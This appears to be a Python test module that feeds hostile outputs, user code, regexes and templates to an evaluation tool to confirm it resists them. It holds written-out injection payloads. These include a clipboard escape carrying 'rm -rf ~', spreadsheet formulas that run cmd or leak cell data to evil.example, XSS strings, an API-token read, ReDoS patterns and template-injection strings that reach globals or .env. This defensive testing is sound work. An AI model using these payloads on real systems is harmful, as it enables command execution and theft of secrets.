"""Hostile content: outputs that attack the terminal and the report files, user code that exits
or never returns, regexes and templates that explode."""

from __future__ import annotations

from replicate_eval.usercode.limits import DEFAULT_TIME_LIMIT
from tests.hostile.case import (
    OTHER_TOKEN,
    OUTPUT_IS_DATA,
    RUN,
    USER_CODE,
    VALIDATE,
    Case,
    Family,
    config,
    says,
)

RESULTS = ("results.json",)
NO_ASSERT = "\n  - vars: {topic: cats}"


PAYLOADS = {
    "clear-screen": "\x1b[2J\x1b[H pwned",
    "osc-window-title": "\x1b]0;pwned\x07 cats",
    "osc8-link": "\x1b]8;;http://evil.example/\x1b\\click me\x1b]8;;\x1b\\",
    "osc52-clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "cursor-query": "\x1b[6n\x1b[c",
    "dcs-query": "\x1bP+q544e\x1b\\",
    "c1-csi": "\x9b2J\x9d0;title\x9c",
    "bells": "\x07" * 20,
    "backspaces": "FAIL\b\b\b\bPASS",
    "carriage-return": "FAIL: real reason\rPASS                 ",
    "rich-markup": "[bold red]x[/] [link=http://evil.example]click[/link]",
    "script-tag": "<script>alert(1)</script>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "hyperlink-formula": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "plus-formula": "+cmd|' /C calc'!A0",
    "minus-formula": "-2+3+cmd|' /C calc'!A0",
    "at-formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab-formula": "\t=1+1",
    "nul-bytes": "a\0b\0c",
    "lone-surrogate": "cats \ud800 dogs",
    "bidi-override": "\u202eevil\u202c",
    "huge-output": "x" * 5_000_000,
    "many-lines": "line\n" * 200_000,
}


def hostile_output() -> list[Case]:
    f = Family("output", OUTPUT_IS_DATA, expect=(0, 100))
    files = ("results.json", "r.csv", "r.html", "r.xml", "r.md")
    args = (*RUN, "-o", "r.csv", "-o", "r.html", "-o", "r.xml", "-o", "r.md")
    for name, text in PAYLOADS.items():
        f(
            name,
            config(tests=NO_ASSERT),
            fake=(says(text),),
            args=args,
            results=files,
            checks=("no-escapes", "csv-safe", "html-safe"),
            process=name.startswith(("huge", "lone")),
        )
    f(
        "100k-tokens",
        config(tests=NO_ASSERT),
        fake=(says(["t"] * 100_000),),
        args=args,
        results=files,
    )
    f(
        "logs-with-escapes",
        config(tests=NO_ASSERT),
        fake=(says("ok", logs="\x1b]0;pwned\x07\x1b[2J"),),
        args=args,
        results=files,
        checks=("no-escapes",),
    )
    f(
        "description-with-escapes",
        config(tests='\n  - description: "\\e]0;pwned\\a"\n    vars: {topic: c}'),
        args=args,
        results=files,
        checks=("no-escapes",),
    )
    return f.cases


def _checks(form: str, code: str) -> tuple[str, dict[str, str]]:
    """A `python` assertion written as an expression, a function body or a file:// module."""
    if form == "module":
        module = "def get_assert(output, context):\n" + "".join(
            f"    {line}\n" for line in code.splitlines()
        )
        return "file://checks.py", {"checks.py": module}
    return code, {}


USER_CODE_CASES = {
    # name: (expression, function body)
    "exit-0": ("exit(0)", "exit(0)"),
    "sys-exit-0": ("__import__('sys').exit(0)", "import sys\nsys.exit(0)"),
    "sys-exit-3": ("__import__('sys').exit(3)", "import sys\nsys.exit(3)"),
    "raise-systemexit": ("(_ for _ in ()).throw(SystemExit(0))", "raise SystemExit(0)"),
    "raise-keyboardinterrupt": (
        "(_ for _ in ()).throw(KeyboardInterrupt())",
        "raise KeyboardInterrupt",
    ),
    "raise-baseexception": (
        "(_ for _ in ()).throw(BaseException('x'))",
        "raise BaseException('x')",
    ),
    "raise-generatorexit": ("(_ for _ in ()).throw(GeneratorExit())", "raise GeneratorExit"),
    "loop-forever": ("any(iter(int, 1))", "while True:\n    pass"),
    "sleep-60": ("__import__('time').sleep(60)", "import time\ntime.sleep(60)"),
    "os-exit-0": ("__import__('os')._exit(0)", "import os\nos._exit(0)"),
    "recursion": ("(lambda f: f(f))(lambda f: f(f))", "def f():\n    return f()\nreturn f()"),
    "memory-error": ("(_ for _ in ()).throw(MemoryError())", "raise MemoryError"),
    "close-stdout": ("__import__('sys').stdout.close()", "import sys\nsys.stdout.close()"),
    "chdir-root": ("__import__('os').chdir('/')", "import os\nos.chdir('/')"),
}

NEVER_RETURNS = ("loop-forever", "sleep-60")

# Behaviours tried in some forms only (the others in all three: expression, body, module).
ONE_FORM = {
    "sys-exit-0": ("body",),
    "raise-generatorexit": ("expression",),
    "loop-forever": ("expression", "module"),
    "recursion": ("body",),
    "memory-error": ("module",),
    "close-stdout": ("expression",),
    "chdir-root": ("module", "body"),
    "sys-exit-3": ("expression", "module"),
    "raise-systemexit": ("body", "module"),
    "raise-keyboardinterrupt": ("expression", "module"),
    "raise-baseexception": ("body",),
    "os-exit-0": ("expression", "module"),
}

IMPORT_TIME = {
    "exit-0": "exit(0)",
    "sys-exit-0": "import sys\nsys.exit(0)",
    "raise-systemexit": "raise SystemExit(0)",
    "raise-keyboardinterrupt": "raise KeyboardInterrupt",
    "loop-forever": "while True:\n    pass",
    "sleep-60": "import time\ntime.sleep(60)",
    "os-exit-0": "import os\nos._exit(0)",
    "import-error": "import no_such_module_anywhere",
    "syntax-error": "def get_assert(output, context) return True",
}


def user_code() -> list[Case]:
    f = Family("python", USER_CODE, expect=100, results=RESULTS, process=True)
    for name, (expression, body) in USER_CODE_CASES.items():
        forms = (
            ("expression", expression),
            ("body", body + "\nreturn True"),
            ("module", body),
        )
        for form, code in forms:
            if form not in ONE_FORM.get(name, (form,)):
                continue
            value, side = _checks(form, code)
            quoted = value.replace("\n", "\\n").replace('"', '\\"')
            tests = (
                f'\n  - vars: {{topic: cats}}\n    assert: [{{type: python, value: "{quoted}"}}]'
            )
            # Code that goes on after chdir or closing stdout may well pass.
            expect = (0, 100) if name in ("close-stdout", "chdir-root") else 100
            # Code that never returns is stopped at the check's time limit, not before.
            waits = DEFAULT_TIME_LIMIT if name in NEVER_RETURNS else 0.0
            f(f"{form}-{name}", config(tests=tests), files=side, expect=expect, waits=waits)
    g = Family("python-import", USER_CODE, expect=(2, 100), results=RESULTS, process=True)
    for name, module in IMPORT_TIME.items():
        tests = "\n  - vars: {topic: cats}\n    assert: [{type: python, value: 'file://checks.py'}]"
        g(
            name,
            config(tests=tests),
            files={"checks.py": module + "\ndef get_assert(output, context):\n    return True\n"},
            waits=DEFAULT_TIME_LIMIT if name in NEVER_RETURNS else 0.0,
        )
    g(
        "module-missing",
        config(
            tests="\n  - vars: {topic: c}\n    assert: [{type: python, value: 'file://nope.py'}]"
        ),
        expect=2,
    )
    g(
        "function-missing",
        config(
            tests="\n  - vars: {topic: c}\n    assert: [{type: python, value: 'file://checks.py:nope'}]"
        ),
        files={"checks.py": "def get_assert(output, context):\n    return True\n"},
        expect=2,
    )
    g(
        "module-is-directory",
        config(
            tests="\n  - vars: {topic: c}\n    assert: [{type: python, value: 'file://checks.py'}]"
        ),
        files={"checks.py/x": "x"},
        expect=2,
    )
    h = Family("python-returns", USER_CODE, expect=(0, 100), results=RESULTS)
    for name, expression in {
        "nan": "float('nan')",
        "inf": "float('inf')",
        "generator": "(x for x in [1])",
        "object": "object()",
        "huge-reason": "{'pass': False, 'reason': 'r' * 10**7}",
        "pass-is-string": "{'pass': 'yes'}",
        "score-string": "{'pass': True, 'score': 'high'}",
        "escape-reason": "{'pass': False, 'reason': '\\x1b]0;pwned\\x07'}",
        "huge-int": "10**5000",
    }.items():
        tests = (
            f'\n  - vars: {{topic: cats}}\n    assert: [{{type: python, value: "{expression}"}}]'
        )
        h(name, config(tests=tests), checks=("no-escapes",) if "escape" in name else ())
    j = Family("javascript", USER_CODE, expect=100, results=RESULTS, process=True)
    for name, code in {
        "endless-loop": "while (true) {}\\nreturn true",
        "memory-bomb": "let s = 'x'; while (true) { s = s + s; }\\nreturn true",
        "stack-overflow": "function f() { return f() + 1; }\\nreturn f()",
        "throws": "throw new Error('boom')\\nreturn true",
        "process-exit": "process.exit(0)",
        "reads-token": "process.env.REPLICATE_API_TOKEN.length > 0",
        "huge-reason": "({pass: false, reason: 'r'.repeat(10000000)})",
        "escape-reason": "({pass: false, reason: String.fromCharCode(27) + ']0;pwned'})",
        "returns-string": "'yes'",
    }.items():
        tests = f'\n  - vars: {{topic: cats}}\n    assert: [{{type: javascript, value: "{code}"}}]'
        j(
            name,
            config(tests=tests),
            waits=DEFAULT_TIME_LIMIT if name == "endless-loop" else 0.0,
            checks=("no-escapes",) if "escape" in name else (),
        )
    j(
        "syntax-error",
        config(tests=NO_ASSERT + "\n    assert: [{type: javascript, value: 'output.includes('}]"),
        expect=2,
    )
    return f.cases + g.cases + h.cases + j.cases


REDOS = {
    "nested-plus": ("(a+)+$", "a" * 40 + "!"),
    "alternation": ("^(a|aa)+$", "a" * 60 + "b"),
}


def regexes() -> list[Case]:
    f = Family("regex", USER_CODE, expect=100, results=RESULTS, process=True, timeout=20.0)
    for name, (pattern, text) in REDOS.items():
        tests = f"\n  - vars: {{topic: cats}}\n    assert: [{{type: regex, value: '{pattern}'}}]"
        f(f"assert-{name}", config(tests=tests), fake=(says(text),))
        if name != "alternation":  # (the regex engine matches nested-plus quickly: no case)
            continue
        f(
            f"not-regex-{name}",
            config(tests=tests.replace("type: regex", "type: not-regex")),
            fake=(says(text),),
        )
    description = "a" * 40 + "!"
    tests = (
        f"\n  - description: '{description}'\n    vars: {{topic: cats}}"
        "\n  - description: other\n    vars: {topic: dogs}"
    )
    f(
        "filter-pattern-nested-plus",
        config(tests=tests),
        args=(*RUN, "--filter-pattern", "(a+)+$"),
        expect=(0, 2, 100),
    )
    f(
        "filter-pattern-alternation",
        config(tests=tests.replace(description, "a" * 60 + "b")),
        args=(*RUN, "--filter-pattern", "^(a|aa)+$"),
        expect=(0, 2, 100),
    )
    f(
        "csv-expected-redos",
        config(tests="file://cases.csv"),
        fake=(says("a" * 40 + "!"),),
        files={"cases.csv": "topic,__expected\ncats,regex: (a+)+$\n"},
    )
    return f.cases


TEMPLATES = {
    "divide-by-zero": ("<<1/0>>", False),
    "str-plus-int": ("<<topic + 1>>", False),
    "huge-range-list": ("<<range(10**9)|list|length>>", True),
    "nested-loops": (
        "<% for i in range(10**5) %><% for j in range(10**5) %>x<% endfor %><% endfor %>",
        True,
    ),
    "recursive-macro": ("<% macro f(n) %><<f(n + 1)>><% endmacro %><<f(0)>>", True),
    "ten-gb-string": ("<<'a' * 10**10>>", True),
    "hundred-mb-string": ("<<'a' * 10**8>>", True),
    "var-times-billion": ("<<topic * 10**9>>", True),
    "power-tower": ("<<(9**9)**(9**9)>>", True),  # Jinja's ** is left-associative
    "int-to-str-limit": ("<<(2**100000)|string>>", False),
    "index-out-of-range": ("<<topic[10**9]>>", False),
    "dunder-mro": ("<<topic.__class__.__mro__>>", False),
    "cycler-globals": ("<<cycler.__init__.__globals__>>", False),
    "unknown-filter": ("<<topic|nosuchfilter>>", False),
    "syntax-error": ("<% for %>", False),
    "lipsum-million": ("<<lipsum(10**6)|length>>", True),
    "include-dotenv": ("<% include '.env' %>", False),
    "include-config": ("<% include 'config.yaml' %>", False),
    "extends-missing": ("<% extends 'base.txt' %>", False),
    "undefined-attr-chain": ("<<nothing.at.all>>", False),
    "format-huge-width": ("<<'%0999999999d'|format(1)>>", True),
}


def templates() -> list[Case]:
    f = Family("template", USER_CODE, expect=(2, 100), results=RESULTS, timeout=20.0)
    env_file = {".env": f"REPLICATE_API_KEY={OTHER_TOKEN}\n"}
    for name, (template, heavy) in TEMPLATES.items():
        prompt = "['" + template.replace("'", "''") + "']"
        f(
            name,
            config(prompts=prompt, tests=NO_ASSERT),
            process=heavy,
            files=env_file,
            secrets=(OTHER_TOKEN,),
        )
        if name in ("divide-by-zero", "str-plus-int", "huge-range-list"):
            f(
                f"validate-{name}",
                config(prompts=prompt, tests=NO_ASSERT),
                args=VALIDATE,
                expect=2,
                process=heavy,
            )
            value = template.replace("'", "''")
            tests = (
                f"\n  - vars: {{topic: cats}}\n    assert: [{{type: contains, value: '{value}'}}]"
            )
            f(f"assert-value-{name}", config(tests=tests), process=heavy)
    f("missing-var", config(prompts="['<<nope>>']", tests=NO_ASSERT), expect=100, must_say="nope")
    f(
        "curly-divide-by-zero",
        config(prompts="['{{ 1/0 }}']", tests=NO_ASSERT, extra="template_syntax: curly"),
    )
    f(
        "rubric-prompt-divide-by-zero",
        config(
            tests="\n  - vars: {topic: c}\n    options: {rubricPrompt: '<<1/0>> <<output>>'}\n"
            "    assert: [{type: llm-rubric, value: x, provider: replicate:acme/echo}]"
        ),
    )
    return f.cases
